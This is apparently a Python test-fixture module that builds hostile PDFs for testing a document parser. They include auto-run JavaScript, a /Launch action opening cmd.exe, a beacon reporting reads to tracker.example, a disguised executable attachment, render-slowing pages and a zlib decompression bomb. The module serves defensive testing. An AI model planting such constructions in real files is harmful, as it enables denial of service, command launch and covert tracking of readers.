"""Hostile files, made small and in memory: each is a real attack on a real parser."""

from __future__ import annotations

import io
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    RectangleObject,
    TextStringObject,
)

from ecabinet.minutes.evidence import FILE_NAME

from .packets import make_pdf


def raw_pdf(contents: list[bytes], size: tuple[float, float] = (595, 842)) -> bytes:
    """A PDF written by hand, one page per content stream (compressed)."""
    kids = " ".join(f"{3 + 2 * n} 0 R" for n in range(len(contents)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(contents)} >>".encode(),
    ]
    for n, content in enumerate(contents):
        packed = zlib.compress(content, 9)
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {size[0]} {size[1]}] "
            f"/Contents {4 + 2 * n} 0 R >>".encode()
        )
        objects.append(
            f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode()
            + packed
            + b"\nendstream"
        )
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return bytes(out)


def slow_pdf(strokes: int = 300_000) -> bytes:
    """About 20 KB that PDFium needs minutes to draw: the same triangle stroked again and
    again (the content stream inflates to some 9 MB)."""
    return raw_pdf([b"0 0 m 500 800 l 10 700 l h S\n" * strokes])


def tall_pages_pdf() -> bytes:
    """3 KB of pages 100 x 14400 points: rendered 1200 px wide, one is 173,000 px tall."""
    return make_pdf(3, size=(100, 14400))


def many_pages_pdf(pages: int) -> bytes:
    return raw_pdf([b"BT ET\n"] * pages)


def _writer() -> PdfWriter:
    return PdfWriter(clone_from=io.BytesIO(make_pdf(2)))


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def javascript_pdf() -> bytes:
    writer = _writer()
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('pwned')"),
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("run"), script])}
            )
        }
    )
    return _bytes(writer)


def launch_pdf() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    return _bytes(writer)


def beacon_pdf() -> bytes:
    """Opens an address by itself: tells a third party who read the document and when."""
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject("http://tracker.example/seen"),
                }
            )
        }
    )
    return _bytes(writer)


def executable_pdf() -> bytes:
    writer = _writer()
    writer.add_attachment("cap-nhat.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return _bytes(writer)


def navigation_pdf() -> bytes:
    """Harmless: a link, an attachment of data, and "open at page 1"."""
    writer = _writer()
    writer.add_uri(0, "https://chinhphu.vn", RectangleObject([72, 72, 200, 90]))
    writer.add_attachment("so-lieu.xml", b"<so-lieu/>")
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    return _bytes(writer)


def inflating(megabytes: int) -> bytes:
    """zlib data of ``megabytes`` MiB of spaces, made in milliseconds: one fully flushed
    deflate block repeated (each starts afresh, so copies are valid), then the checksum."""
    chunk = b" " * (1024 * 1024)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(chunk, checksum)
    return (
        b"\x78\xda" + block * megabytes + deflate.flush(zlib.Z_FINISH) + checksum.to_bytes(4, "big")
    )


def evidence_bomb(inflated_mb: int) -> bytes:
    """A PDF whose evidence attachment inflates about a thousand times: what a verifier
    that trusts the stream to be small would read into memory."""
    packed = inflating(inflated_mb)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [("
        + FILE_NAME.encode()
        + b") 4 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Type /Filespec /F (" + FILE_NAME.encode() + b") /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)
